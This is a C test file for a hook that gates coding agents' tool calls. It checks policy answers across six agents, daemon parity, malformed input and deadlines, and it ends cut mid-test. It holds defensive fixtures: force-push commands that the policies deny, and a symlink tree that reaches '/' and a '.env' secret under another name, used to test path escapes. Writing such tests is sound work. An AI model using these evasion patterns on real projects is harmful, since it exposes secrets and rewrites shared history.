/*
 * test_hooks.c — `toolgate hook` as the coding agents run it: the real
 * command, one event on stdin, the answer on stdout and its exit code.
 *
 * The fixture events (spec/fixtures/hooks/<agent>/NAME.event, built from
 * the agents' documented schemas) each come with NAME.expect: {exit,
 * output (the JSON the agent reads, or null for none), message (text the
 * stderr must hold)}. Every one is answered twice — loading the policies
 * in the hook process, and by a resident `toolgate daemon` over its
 * control socket (the hook is then given a policies folder that does not
 * exist, so only the daemon can answer right) — and both answers must be
 * the expected one, byte for byte the same.
 *
 * Then what an agent does not do on purpose: a stdin that never closes, a
 * 100 MB stdin, an instance that never answers, the on_error answers; and
 * what the hooks record: turns, the usage in a transcript since the last
 * Stop, sessions.
 */
#include "helpers.h"
#include <limits.h>
#include <poll.h>
#include <sys/prctl.h>
#include <time.h>
#include <sys/socket.h>
#include <sys/un.h>
#include "internal.h"

#define TOOLGATE TG_BINARY_DIR "/toolgate"
#define POLICIES "spec/fixtures/hooks/policies" /* from TG_SOURCE_DIR */
#define FIXTURES TG_SOURCE_DIR "/spec/fixtures/hooks"

/* ---- running the command ------------------------------------------------ */

typedef struct {
  int code;          /* exit status; -1: killed by a signal */
  char *out, *err;
  double ms;
} ran;

static double now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec * 1e3 + (double)ts.tv_nsec / 1e6;
}

static char *slurp_fd(int fd) {
  size_t cap = 4096, n = 0;
  char *b = malloc(cap);
  ASSERT_NOT_NULL(b);
  lseek(fd, 0, SEEK_SET);
  for (;;) {
    if (n + 1 == cap) {
      b = realloc(b, cap *= 2);
      ASSERT_NOT_NULL(b);
    }
    ssize_t r = read(fd, b + n, cap - 1 - n);
    if (r <= 0) break;
    n += (size_t)r;
  }
  b[n] = '\0';
  return b;
}

/* Runs toolgate with argv (NULL-terminated, without the program), stdin
 * from in_fd, in the source tree; kills it after timeout_ms. */
static ran run_fd(const char *const *argv, int in_fd, int timeout_ms) {
  char outp[] = "/tmp/tg-hook-out-XXXXXX", errp[] = "/tmp/tg-hook-err-XXXXXX";
  int out = mkstemp(outp), err = mkstemp(errp);
  ASSERT_TRUE(out >= 0 && err >= 0);
  unlink(outp);
  unlink(errp);
  const char *args[32] = {TOOLGATE};
  int n = 1;
  for (; argv[n - 1]; n++) args[n] = argv[n - 1];
  args[n] = NULL;
  double t0 = now_ms();
  pid_t pid = fork();
  if (pid == 0) {
    dup2(in_fd, 0);
    dup2(out, 1);
    dup2(err, 2);
    if (chdir(TG_SOURCE_DIR) < 0) _exit(99);
    execv(TOOLGATE, (char *const *)args);
    _exit(98);
  }
  int st = 0;
  while (waitpid(pid, &st, WNOHANG) == 0) {
    if (now_ms() - t0 > timeout_ms) {
      kill(pid, SIGKILL);
      waitpid(pid, &st, 0);
      TG_FAIL("toolgate %s %s did not end within %d ms", argv[0],
              argv[1] ? argv[1] : "", timeout_ms);
    }
    usleep(1000);
  }
  ran r;
  r.ms = now_ms() - t0;
  r.code = WIFEXITED(st) ? WEXITSTATUS(st) : -1;
  r.out = slurp_fd(out);
  r.err = slurp_fd(err);
  close(out);
  close(err);
  return r;
}

/* The command with text on its stdin, killed past timeout_ms. */
static ran run_text_for(const char *const *argv, const char *text,
                        int timeout_ms) {
  char p[] = "/tmp/tg-hook-in-XXXXXX";
  int fd = mkstemp(p);
  ASSERT_TRUE(fd >= 0);
  unlink(p);
  ASSERT_INT_EQ(write(fd, text, strlen(text)), (ssize_t)strlen(text));
  lseek(fd, 0, SEEK_SET);
  ran r = run_fd(argv, fd, timeout_ms);
  close(fd);
  return r;
}

static ran run_text(const char *const *argv, const char *text) {
  return run_text_for(argv, text, 20000);
}

static void ran_free(ran *r) {
  free(r->out);
  free(r->err);
}

/* ---- a resident instance --------------------------------------------------- */

typedef struct {
  pid_t pid;
  char sock[256];
} daemon_proc;

static int can_connect(const char *path) {
  struct sockaddr_un a;
  memset(&a, 0, sizeof a);
  a.sun_family = AF_UNIX;
  /* length checked, then copied: snprintf's "%s" trips -Wformat-truncation
   * at -O3 (Release), the bench's build */
  size_t n = strlen(path);
  if (n >= sizeof a.sun_path) return 0;
  memcpy(a.sun_path, path, n + 1);
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  int ok = fd >= 0 && connect(fd, (struct sockaddr *)&a, sizeof a) == 0;
  if (fd >= 0) close(fd);
  return ok;
}

/* The instances a test started, stopped however the test ends (a failed
 * assert exits): a daemon left behind would hold the test's output open. */
static pid_t started[8];
static int nstarted;

static void stop_started(void) {
  for (int i = 0; i < nstarted; i++)
    if (started[i] > 0) kill(started[i], SIGTERM);
}

static void remember_started(pid_t pid) {
  if (!nstarted) atexit(stop_started);
  if (nstarted < 8) started[nstarted++] = pid;
}

static daemon_proc start_daemon(const char *dir, const char *policies) {
  daemon_proc d;
  snprintf(d.sock, sizeof d.sock, "%s/d.sock", dir);
  d.pid = fork();
  if (d.pid == 0) {
    prctl(PR_SET_PDEATHSIG, SIGTERM); /* and if the test is killed */
    int null = open("/dev/null", O_RDWR);
    dup2(null, 0);
    dup2(null, 1);
    dup2(null, 2);
    if (chdir(TG_SOURCE_DIR) < 0) _exit(99);
    execl(TOOLGATE, TOOLGATE, "daemon", "--policies", policies, "--socket",
          d.sock, (char *)NULL);
    _exit(98);
  }
  remember_started(d.pid);
  /* up to 30 s: it loads the policies and opens its database first, which
   * a loaded machine stretches (the loop ends as soon as it listens) */
  for (int i = 0; i < 3000 && !can_connect(d.sock); i++) usleep(10000);
  if (!can_connect(d.sock)) TG_FAIL("the daemon did not listen on %s", d.sock);
  return d;
}

static void stop_daemon(daemon_proc *d) {
  for (int i = 0; i < nstarted; i++)
    if (started[i] == d->pid) started[i] = 0;
  kill(d->pid, SIGTERM);
  int st = 0;
  waitpid(d->pid, &st, 0);
  ASSERT_TRUE(WIFEXITED(st));
  ASSERT_INT_EQ(WEXITSTATUS(st), 0);
}

/* ---- the fixtures ------------------------------------------------------------ */

/* stdout as the agent reads it: one JSON object, or nothing. */
static void check_expect(const char *name, const ran *r, const cJSON *want) {
  const cJSON *out = cJSON_GetObjectItemCaseSensitive(want, "output");
  double code = num_at(want, "exit");
  const char *msg = str_at(want, "message");
  if (r->code != (int)code)
    TG_FAIL("%s: exit %d, expected %.0f\n  stdout: %s\n  stderr: %s", name,
            r->code, code, r->out, r->err);
  if (cJSON_IsNull(out)) {
    if (r->out[0]) TG_FAIL("%s: expected no output, got %s", name, r->out);
  } else {
    size_t n = strlen(r->out);
    if (!n || r->out[n - 1] != '\n' || memchr(r->out, '\n', n - 1))
      TG_FAIL("%s: the output is not one line: %s", name, r->out);
    char why[300];
    cJSON *got = tg_json_parse(r->out, n - 1, NULL, why, sizeof why);
    if (!got) TG_FAIL("%s: the output is not JSON (%s): %s", name, why, r->out);
    if (!cJSON_Compare(got, out, 1)) {
      char *w = tg_json_print(out, 0);
      TG_FAIL("%s: the answer differs\n  got:      %s  expected: %s\n", name,
              r->out, w);
    }
    cJSON_Delete(got);
  }
  if (msg && !strstr(r->err, msg))
    TG_FAIL("%s: stderr lacks \"%s\": %s", name, msg, r->err);
}

static int by_name(const struct dirent **a, const struct dirent **b) {
  return strcmp((*a)->d_name, (*b)->d_name);
}

static int is_event(const struct dirent *e) {
  size_t n = strlen(e->d_name);
  return n > 6 && !strcmp(e->d_name + n - 6, ".event");
}

/* The folder the symlink fixtures' events are in (their "@TREE@"):
 * made here, since a symlink to / in the repository would lead every
 * tree walk over it through the whole filesystem.
 *   src/ok.c, .env, policies/10_x.lua   plain files
 *   src/lnk -> /            inside -> outside
 *   src/pol -> ../policies  into a policies folder
 *   out -> src              outside -> inside
 *   src/cfg -> ../.env      a secret under another name
 *   src/loop -> loop        a loop: no end to find */
static char *symlink_tree(const char *tmp) {
  char *t = path_join(tmp, "tree");
  char p[600];
  ASSERT_INT_EQ(mkdir(t, 0755), 0);
  snprintf(p, sizeof p, "%s/src", t);
  ASSERT_INT_EQ(mkdir(p, 0755), 0);
  snprintf(p, sizeof p, "%s/policies", t);
  ASSERT_INT_EQ(mkdir(p, 0755), 0);
  put_file(t, "src/ok.c", "int ok;\n");
  put_file(t, ".env", "KEY=1\n");
  put_file(t, "policies/10_x.lua", "-- a policy\n");
  static const char *const links[][2] = {
      {"src/lnk", "/"}, {"src/pol", "../policies"}, {"out", "src"},
      {"src/cfg", "../.env"}, {"src/loop", "loop"}};
  for (size_t i = 0; i < sizeof links / sizeof links[0]; i++) {
    snprintf(p, sizeof p, "%s/%s", t, links[i][0]);
    ASSERT_INT_EQ(symlink(links[i][1], p), 0);
  }
  char *real = realpath(t, NULL);
  ASSERT_NOT_NULL(real);
  free(t);
  return real;
}

/* text with every "@TREE@" replaced by tree (malloc'd). */
static char *with_tree(const char *text, const char *tree) {
  size_t n = strlen(text), tl = strlen(tree), k = 0;
  char *out = malloc(n * (tl + 1) + 1), *o = out;
  ASSERT_NOT_NULL(out);
  while (text[k]) {
    if (!strncmp(text + k, "@TREE@", 6)) {
      memcpy(o, tree, tl);
      o += tl;
      k += 6;
    } else {
      *o++ = text[k++];
    }
  }
  *o = '\0';
  return out;
}

/* Every fixture of agent, in-process and through a daemon: the expected
 * answer, the same both ways. Returns how many ran. */
/* `toolgate explain --event` gives the answer the hook gave (hook), from
 * the same code: the same exit code and output. Not when a policy asked
 * for tools to run for the model's context: explain lists them, never
 * runs them. */
static void check_explained(const char *name, const ran *x, const ran *hook) {
  if (x->code != 0)
    TG_FAIL("%s: explain --event exits %d: %s", name, x->code, x->err);
  cJSON *j = cJSON_Parse(x->out);
  if (!j) TG_FAIL("%s: explain --event --json is not JSON: %s", name, x->out);
  const cJSON *a = cJSON_GetObjectItemCaseSensitive(j, "answer");
  const cJSON *judged = cJSON_GetObjectItemCaseSensitive(j, "judged");
  if (!cJSON_GetObjectItemCaseSensitive(judged, "context_calls")) {
    cJSON *got = hook->out[0] ? cJSON_Parse(hook->out) : cJSON_CreateNull();
    if (num_at(a, "exit_code") != hook->code ||
        !cJSON_Compare(cJSON_GetObjectItemCaseSensitive(a, "output"), got, 1))
      TG_FAIL("%s: explain --event says the agent gets another answer\n"
              "  explain: %s\n  hook:    %d %s", name, x->out, hook->code,
              hook->out);
    cJSON_Delete(got);
  }
  cJSON_Delete(j);
}

static int run_fixtures(const char *agent) {
  char *tmp = temp_dir();
  char *tree = symlink_tree(tmp);
  char dir[512], missing[512];
  snprintf(dir, sizeof dir, "%s/%s", FIXTURES, agent);
  snprintf(missing, sizeof missing, "%s/no-such-policies", tmp);
  daemon_proc d = start_daemon(tmp, POLICIES);
  struct dirent **list;
  int n = scandir(dir, &list, is_event, by_name);
  ASSERT_TRUE(n > 10);
  for (int i = 0; i < n; i++) {
    char ev[768], exp[768], name[300];
    snprintf(ev, sizeof ev, "%s/%s", dir, list[i]->d_name);
    snprintf(name, sizeof name, "%s/%.*s", agent,
             (int)strlen(list[i]->d_name) - 6, list[i]->d_name);
    snprintf(exp, sizeof exp, "%.*s.expect", (int)strlen(ev) - 6, ev);
    char *raw = read_text(exp), *text = with_tree(raw, tree);
    cJSON *want = cJSON_Parse(text);
    if (!want) TG_FAIL("%s: the .expect file is not JSON", name);
    /* the words the installed line adds ("args": ["--event", NAME]: an
     * agent whose payload does not name its event) */
    const char *ename = NULL;
    const cJSON *extra = cJSON_GetObjectItemCaseSensitive(want, "args");
    const char *w0 = cJSON_GetStringValue(cJSON_GetArrayItem(extra, 0));
    if (extra && (cJSON_GetArraySize(extra) != 2 || !w0 ||
                  strcmp(w0, "--event") ||
                  !cJSON_IsString(cJSON_GetArrayItem(extra, 1))))
      TG_FAIL("%s: \"args\" is [\"--event\", NAME]", name);
    if (extra) ename = cJSON_GetArrayItem(extra, 1)->valuestring;
    const char *here[] = {"hook", agent, "--policies", POLICIES,
                          "--no-resident", ename ? "--event" : NULL, ename,
                          NULL};
    const char *resident[] = {"hook", agent, "--policies", missing,
                              "--socket", d.sock, ename ? "--event" : NULL,
                              ename, NULL};
    const char *explain[] = {"explain", "--event", "-", "--agent", agent,
                             "--policies", POLICIES, "--json",
                             ename ? "--event-name" : NULL, ename, NULL};
    char *evraw = read_text(ev), *evtext = with_tree(evraw, tree);
    ran a = run_text(here, evtext), b = run_text(resident, evtext);
    ran x = run_text(explain, evtext);
    free(evraw);
    free(evtext);
    free(raw);
    check_expect(name, &a, want);
    check_expect(name, &b, want);
    check_explained(name, &x, &a);
    ran_free(&x);
    if (strcmp(a.out, b.out) || a.code != b.code || strcmp(a.err, b.err))
      TG_FAIL("%s: the resident instance answered otherwise\n  in-process: "
              "%d %s %s\n  resident:   %d %s %s", name, a.code, a.out, a.err,
              b.code, b.out, b.err);
    ran_free(&a);
    ran_free(&b);
    cJSON_Delete(want);
    free(text);
    free(list[i]);
  }
  free(list);
  stop_daemon(&d);
  free(tree);
  remove_tree(tmp);
  return n;
}

TEST(claude_code_fixtures_in_process_and_resident) {
  ASSERT_TRUE(run_fixtures("claude-code") >= 40);
}

TEST(codex_fixtures_in_process_and_resident) {
  ASSERT_TRUE(run_fixtures("codex") >= 20);
}

TEST(gemini_fixtures_in_process_and_resident) {
  ASSERT_TRUE(run_fixtures("gemini") >= 20);
}

TEST(copilot_fixtures_in_process_and_resident) {
  ASSERT_TRUE(run_fixtures("copilot") >= 20);
}

TEST(cursor_fixtures_in_process_and_resident) {
  ASSERT_TRUE(run_fixtures("cursor") >= 28);
}

TEST(opencode_fixtures_in_process_and_resident) {
  ASSERT_TRUE(run_fixtures("opencode") >= 24);
}

/* A 3 MB event whose rewrite comes back as a 3 MB answer: read in pieces
 * by the instance, written as the hook reads it, the same as in-process. */
TEST(a_big_event_and_a_big_answer) {
  char *tmp = temp_dir();
  daemon_proc d = start_daemon(tmp, POLICIES);
  size_t n = 3u << 20;
  char *ev = malloc(n + 512);
  ASSERT_NOT_NULL(ev);
  int k = sprintf(ev, "{\"session_id\":\"s\",\"cwd\":\"/w\",\"hook_event_name\":"
                  "\"PreToolUse\",\"tool_name\":\"Bash\",\"tool_input\":"
                  "{\"command\":\"npm install ");
  memset(ev + k, 'a', n);
  strcpy(ev + k + n, "\"}}");
  char *missing = path_join(tmp, "none");
  const char *here[] = {"hook", "claude-code", "--policies", POLICIES,
                        "--no-resident", NULL};
  const char *resident[] = {"hook", "claude-code", "--policies", missing,
                            "--socket", d.sock, NULL};
  ran a = run_text(here, ev), b = run_text(resident, ev);
  ASSERT_INT_EQ(a.code, 0);
  ASSERT_TRUE(strlen(a.out) > n);
  ASSERT_CONTAINS(a.out, "aaa --ignore-scripts\"");
  ASSERT_TRUE(strcmp(a.out, b.out) == 0);
  ASSERT_STR_EQ(b.err, "");
  ran_free(&a);
  ran_free(&b);
  stop_daemon(&d);
  free(missing);
  free(ev);
  remove_tree(tmp);
}

/* An event of n keys "xNNNNNN": n, into ev (at least n * 24 + 256
 * bytes), between head and tail. */
static void many_keys(char *ev, size_t cap, const char *head, int n,
                      const char *tail) {
  size_t k = (size_t)snprintf(ev, cap, "%s", head);
  for (int i = 0; i < n; i++)
    k += (size_t)snprintf(ev + k, cap - k, ",\"x%06d\":%d", i, i);
  snprintf(ev + k, cap - k, "%s", tail);
}

/* A tool's result of 20000 keys, after the tool: the post-hooks read it
 * (it went through Lua and back, its keys in another order) and change
 * nothing, so nothing is said. Putting the keys back in the agent's order
 * once compared every key with every other for each (hours at this size:
 * the deadline's fail-safe block); the deadline here is far past what the
 * answer needs. */
TEST(a_result_of_many_keys_is_answered_not_timed_out) {
  size_t cap = 20000u * 24 + 256;
  char *ev = malloc(cap);
  ASSERT_NOT_NULL(ev);
  many_keys(ev, cap, "{\"session_id\":\"s\",\"cwd\":\"/w\",\"hook_event_name\":"
            "\"PostToolUse\",\"tool_name\":\"Bash\",\"tool_input\":{\"command\":"
            "\"ls\"},\"tool_response\":{\"stdout\":\"fine\"", 20000, "}}");
  const char *argv[] = {"hook", "claude-code", "--policies", POLICIES,
                        "--no-resident", "--deadline-ms", "15000", NULL};
  ran r = run_text(argv, ev);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_STR_EQ(r.out, "");
  ASSERT_STR_EQ(r.err, "");
  ran_free(&r);
  free(ev);
}

/* Events of many keys are judged, not left to the deadline's fail-safe:
 * a Copilot CLI payload of 300000 keys (its keys renamed one by one once
 * searched the new event for each) and a Gemini CLI input of 250000 that
 * a pre-hook rewrites (whether the rewrite dropped an argument once
 * searched the new input for each old key). Either took minutes; the
 * deadline here is far past what the answer needs. */
TEST(events_of_many_keys_are_answered_not_timed_out) {
  size_t cap = 300000u * 24 + 256;
  char *ev = malloc(cap);
  ASSERT_NOT_NULL(ev);
  many_keys(ev, cap, "{\"sessionId\":\"s\",\"cwd\":\"/w\",\"toolName\":\"bash\","
            "\"toolArgs\":\"{\\\"command\\\":\\\"git status\\\"}\"", 300000,
            "}");
  const char *copilot[] = {"hook", "copilot", "--event", "preToolUse",
                           "--policies", POLICIES, "--no-resident",
                           "--deadline-ms", "45000", NULL};
  ran r = run_text_for(copilot, ev, 55000);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"allow\"");
  ASSERT_CONTAINS(r.out, "rule 'safe-commands'");
  ran_free(&r);
  many_keys(ev, cap, "{\"session_id\":\"s\",\"cwd\":\"/w\",\"hook_event_name\":"
            "\"BeforeTool\",\"tool_name\":\"run_shell_command\",\"tool_input\":"
            "{\"command\":\"npm install x\"", 250000, "}}");
  const char *gemini[] = {"hook", "gemini", "--policies", POLICIES,
                          "--no-resident", "--deadline-ms", "45000", NULL};
  r = run_text_for(gemini, ev, 55000);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "\"decision\":\"allow\"");
  ASSERT_CONTAINS(r.out, "\"npm install x --ignore-scripts\",\"x000000\":0,");
  ASSERT_CONTAINS(r.out, "\"x249999\":249999}");
  ran_free(&r);
  free(ev);
}

/* ---- what agents do not do on purpose ---------------------------------------- */

static const char pre_bash[] =
    "{\"session_id\":\"s\",\"cwd\":\"/p\",\"hook_event_name\":\"PreToolUse\","
    "\"tool_name\":\"Bash\",\"tool_input\":{\"command\":\"git push -f\"}}";

TEST(stdin_that_never_closes_is_answered_at_the_deadline) {
  int p[2];
  ASSERT_OK(pipe(p));
  const char part[] = "{\"session_id\":\"s\",\"hook_event_name\":\"PreTo";
  ASSERT_INT_EQ(write(p[1], part, sizeof part - 1), (ssize_t)sizeof part - 1);
  const char *argv[] = {"hook", "claude-code", "--policies", POLICIES,
                        "--no-resident", "--deadline-ms", "1000", NULL};
  /* It ends by itself (run_fd fails the test at its own, far later
   * limit). Which of two fail-safe answers comes is the machine's: the
   * read gives up just before the deadline, and on a loaded machine the
   * deadline's own watchdog can be first. Both block. */
  ran r = run_fd(argv, p[0], 60000);
  close(p[0]);
  close(p[1]);
  ASSERT_INT_EQ(r.code, 2); /* the event is unread: a blocking error */
  ASSERT_STR_EQ(r.out, "");
  ASSERT_TRUE(strstr(r.err, "stdin did not close") ||
              strstr(r.err, "no answer within the hook's deadline"));
  ran_free(&r);
}

TEST(one_whole_object_is_answered_without_eof) {
  int p[2];
  ASSERT_OK(pipe(p));
  ASSERT_INT_EQ(write(p[1], pre_bash, sizeof pre_bash - 1),
                (ssize_t)sizeof pre_bash - 1);
  const char *argv[] = {"hook", "claude-code", "--policies", POLICIES,
                        "--no-resident", "--deadline-ms", "8000", NULL};
  ran r = run_fd(argv, p[0], 10000);
  close(p[0]);
  close(p[1]);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"deny\"");
  ASSERT_CONTAINS(r.out, "no-force-push"); /* the rule's answer, not the
                                             deadline's: EOF was not awaited */
  ran_free(&r);
}

TEST(a_100_mb_stdin_is_refused_without_reading_it_all) {
  int p[2];
  ASSERT_OK(pipe(p));
  pid_t w = fork();
  if (w == 0) { /* the writer: 100 MB of one JSON string */
    close(p[0]);
    signal(SIGPIPE, SIG_DFL);
    static char buf[1 << 16];
    memset(buf, 'a', sizeof buf);
    if (write(p[1], "{\"prompt\":\"", 11) < 0) _exit(1);
    for (int i = 0; i < 1600; i++)
      if (write(p[1], buf, sizeof buf) < 0) _exit(0);
    _exit(0);
  }
  close(p[1]);
  const char *argv[] = {"hook", "claude-code", "--policies", POLICIES,
                        "--no-resident", NULL};
  ran r = run_fd(argv, p[0], 10000);
  close(p[0]);
  waitpid(w, NULL, 0);
  ASSERT_INT_EQ(r.code, 2);
  ASSERT_CONTAINS(r.err, "over 16777216 bytes");
  ran_free(&r);
}

/* An instance that takes the connection and never answers: the hook
 * answers in-process (given the policies), or by its deadline. */
TEST(an_instance_that_never_answers_does_not_hold_the_hook) {
  char *tmp = temp_dir();
  char *sock = path_join(tmp, "stuck.sock");
  struct sockaddr_un a;
  memset(&a, 0, sizeof a);
  a.sun_family = AF_UNIX;
  snprintf(a.sun_path, sizeof a.sun_path, "%s", sock);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  ASSERT_OK(bind(fd, (struct sockaddr *)&a, sizeof a));
  ASSERT_OK(listen(fd, 8)); /* connections wait in the backlog, unanswered */
  const char *good[] = {"hook", "claude-code", "--policies", POLICIES,
                        "--socket", sock, "--deadline-ms", "8000", NULL};
  ran r = run_text(good, pre_bash);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "no-force-push"); /* answered here, right */
  ASSERT_CONTAINS(r.err, "did not answer"); /* before the deadline, whose
                                               answer would be on_error's */
  ran_free(&r);
  char *missing = path_join(tmp, "none");
  const char *bad[] = {"hook", "claude-code", "--policies", missing,
                       "--socket", sock, "--deadline-ms", "600", NULL};
  r = run_text(bad, pre_bash);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"deny\"");
  ASSERT_CONTAINS(r.out, "on_error = deny");
  ran_free(&r);
  close(fd);
  free(missing);
  free(sock);
  remove_tree(tmp);
}

TEST(on_error_ask_and_allow) {
  const char *ask[] = {"hook", "claude-code", "--policies", "/nonexistent",
                       "--no-resident", "--on-error", "ask", NULL};
  ran r = run_text(ask, pre_bash);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"ask\"");
  ASSERT_CONTAINS(r.out, "does not exist");
  ran_free(&r);
  const char *allow[] = {"hook", "claude-code", "--policies", POLICIES,
                         "--no-resident", "--on-error", "allow", NULL};
  r = run_text(allow, "{\"session_id\":\"s\",\"cwd\":\"/p\",\"hook_event_name\":"
               "\"PreToolUse\",\"tool_name\":\"Bash\",\"tool_input\":"
               "{\"command\":\"trigger-a-policy-bug\"}}");
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"allow\"");
  ASSERT_CONTAINS(r.err, "a bug in a rule");
  ran_free(&r);
  /* an unreadable event with allow: nothing said, the agent's own flow */
  r = run_text(allow, "{not json");
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_STR_EQ(r.out, "");
  ASSERT_CONTAINS(r.err, "not valid JSON");
  ran_free(&r);
  /* codex cannot ask: an ask on error denies there */
  const char *cask[] = {"hook", "codex", "--policies", "/nonexistent",
                        "--no-resident", "--on-error", "ask", NULL};
  r = run_text(cask, pre_bash);
  ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"deny\"");
  ASSERT_CONTAINS(r.out, "cannot ask");
  ran_free(&r);
}

TEST(usage_errors) {
  const char *none[] = {"hook", NULL};
  ran r = run_text(none, "");
  ASSERT_INT_EQ(r.code, 2);
  ASSERT_CONTAINS(r.err, "which agent?");
  ran_free(&r);
  const char *bad[] = {"hook", "aider", NULL}; /* not one of the six */
  r = run_text(bad, "");
  ASSERT_INT_EQ(r.code, 2);
  ASSERT_CONTAINS(r.err, "unknown agent");
  ran_free(&r);
  const char *oe[] = {"hook", "codex", "--on-error", "maybe", NULL};
  r = run_text(oe, "");
  ASSERT_INT_EQ(r.code, 2);
  ASSERT_CONTAINS(r.err, "deny, ask or allow");
  ran_free(&r);
}


/* A tool run for the model's context that outlasts the answer's deadline
 * is cancelled, and the answer still comes in time, in-process and from
 * a resident instance. */
TEST(context_tools_are_cut_at_the_deadline) {
  char *tmp = temp_dir();
  daemon_proc d = start_daemon(tmp, POLICIES);
  const char *ev =
      "{\"session_id\":\"s\",\"cwd\":\"/home/dev/proj\",\"hook_event_name\":"
      "\"PostToolUse\",\"tool_name\":\"Edit\",\"tool_input\":{\"file_path\":"
      "\"/home/dev/proj/src/slow.c\",\"old_string\":\"a\",\"new_string\":\"b\"},"
      "\"tool_response\":{}}";
  char *missing = path_join(tmp, "none");
  const char *here[] = {"hook", "claude-code", "--policies", POLICIES,
                        "--no-resident", "--deadline-ms", "5000", NULL};
  const char *resident[] = {"hook", "claude-code", "--policies", missing,
                            "--socket", d.sock, "--deadline-ms", "5000", NULL};
  const char *const *ways[] = {here, resident};
  for (int i = 0; i < 2; i++) {
    ran r = run_text(ways[i], ev);
    ASSERT_INT_EQ(r.code, 0);
    ASSERT_CONTAINS(r.out, "edited src/slow.c: run the tests");
    ASSERT_CONTAINS(r.out, "$ sleep 30:");
    ASSERT_CONTAINS(r.out, "(cancelled: ");
    /* cut, not waited for: far below the sleep's 30 s, with room for a
     * loaded machine (the answer itself comes at the 5 s deadline plus
     * the start of the process, which a busy 2-core machine stretches) */
    ASSERT_TRUE(r.ms < 25000);
    ran_free(&r);
  }
  stop_daemon(&d);
  free(missing);
  remove_tree(tmp);
}

/* examples/agent-hooks against a real project: a force push denied, an
 * edit outside src/ asked, and after an edit the tests' output for the
 * model. */
TEST(the_agent_hooks_example) {
  char *proj = temp_dir();
  make_subdir(proj, "src");
  put_file(proj, "Makefile", "test:\n\t@echo '3 tests, 1 failure: test_parse'; exit 1\n");
  const char *argv[] = {"hook", "claude-code", "--policies",
                        TG_SOURCE_DIR "/examples/agent-hooks/policies",
                        "--no-resident", NULL};
  char ev[2048];
  snprintf(ev, sizeof ev, "{\"session_id\":\"s\",\"cwd\":\"%s\",\"hook_event_name\":"
           "\"PreToolUse\",\"tool_name\":\"Bash\",\"tool_input\":{\"command\":"
           "\"git push origin +main\"}}", proj);
  ran r = run_text(argv, ev);
  ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"deny\"");
  ASSERT_CONTAINS(r.out, "force pushes rewrite shared history");
  ran_free(&r);
  snprintf(ev, sizeof ev, "{\"session_id\":\"s\",\"cwd\":\"%s\",\"hook_event_name\":"
           "\"PreToolUse\",\"tool_name\":\"Edit\",\"tool_input\":{\"file_path\":"
           "\"%s/Makefile\",\"old_string\":\"a\",\"new_string\":\"b\"}}", proj, proj);
  r = run_text(argv, ev);
  ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"ask\"");
  ASSERT_CONTAINS(r.out, "change Makefile, outside src/");
  ran_free(&r);
  snprintf(ev, sizeof ev, "{\"session_id\":\"s\",\"cwd\":\"%s\",\"hook_event_name\":"
           "\"PostToolUse\",\"tool_name\":\"Edit\",\"tool_input\":{\"file_path\":"
           "\"%s/src/parse.c\",\"old_string\":\"a\",\"new_string\":\"b\"},"
           "\"tool_response\":{\"filePath\":\"%s/src/parse.c\"}}", proj, proj, proj);
  r = run_text(argv, ev);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "\"additionalContext\":\"the tests after this edit "
                  "(make -s test 2>&1):\\n3 tests, 1 failure: test_parse\\n");
  ASSERT_CONTAINS(r.out, "(exit code 2)");
  ran_free(&r);
  remove_tree(proj);
}

/* A context tool's exit_code is shown as the number it is: 1.5 was shown
 * as "exit code 1" and 1e300 as cJSON's clamped int (its valueint, a
 * second conversion beside base/jsonnum.c). */
/* The answer to a PostToolUse of Bash `true` in a new project whose
 * policies are `policy` (the "toolgate" and "toolgate.agent" modules
 * required as tg and agent before it); keys (JSON members, each with its
 * comma) come first in the event. */
static ran post_bash_in_project(const char *policy, const char *keys) {
  char *proj = temp_dir();
  make_subdir(proj, "policies");
  char pol[PATH_MAX], *lua;
  snprintf(pol, sizeof pol, "%s/policies", proj);
  lua = malloc(strlen(policy) + 100);
  ASSERT_NOT_NULL(lua);
  sprintf(lua, "local tg = require \"toolgate\"\n"
          "local agent = require \"toolgate.agent\"\n%s", policy);
  put_file(pol, "10.lua", lua);
  free(lua);
  const char *argv[] = {"hook", "claude-code", "--policies", pol,
                        "--no-resident", NULL};
  char ev[2048];
  snprintf(ev, sizeof ev, "{%s\"session_id\":\"s\",\"cwd\":\"%s\","
           "\"hook_event_name\":\"PostToolUse\",\"tool_name\":\"Bash\","
           "\"tool_input\":{\"command\":\"true\"},\"tool_response\":"
           "{\"stdout\":\"\"}}", keys, proj);
  ran r = run_text(argv, ev);
  remove_tree(proj);
  return r;
}

TEST(a_context_tools_exit_code_is_shown_as_it_is) {
  ran r = post_bash_in_project(
      "tg.tool { name = \"fake\", read_only = true, run = function(a)\n"
      "  return { stdout = \"out\\n\", exit_code = a.code } end }\n"
      "tg.after_tool(\"*\", function(call)\n"
      "  if call.tool == \"fake\" then return end\n"
      "  agent.context_from(call, \"fake\", { code = 1.5 }, \"a\")\n"
      "  agent.context_from(call, \"fake\", { code = 1e300 }, \"b\")\n"
      "end)\n", "");
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "(exit code 1.5)");
  ASSERT_CONTAINS(r.out, "(exit code 1e+300)");
  ran_free(&r);
}

/* A context tool runs under the event's session_id, the one its call was
 * judged under, not under a key that is the same but for case (the
 * event is the agent's: any keys at all). */
TEST(a_context_tool_runs_under_the_events_own_session) {
  ran r = post_bash_in_project(
